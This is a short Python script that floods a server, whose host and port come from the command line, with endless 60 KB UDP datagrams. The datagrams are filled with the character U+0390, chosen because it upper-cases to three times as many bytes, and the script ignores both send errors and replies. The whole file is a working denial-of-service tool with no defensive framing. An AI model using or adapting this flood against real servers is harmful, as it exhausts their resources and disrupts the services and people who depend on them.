import socket, sys
# Floods the server it is given with 60 KB datagrams of U+0390, which upper-cases to three
# times as many bytes; never reads an answer.
host, port = sys.argv[1], int(sys.argv[2])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagram = ("\u0390" * 30000).encode("utf-8")
while True:
    try:
        sock.sendto(datagram, (host, port))
    except OSError:
        pass
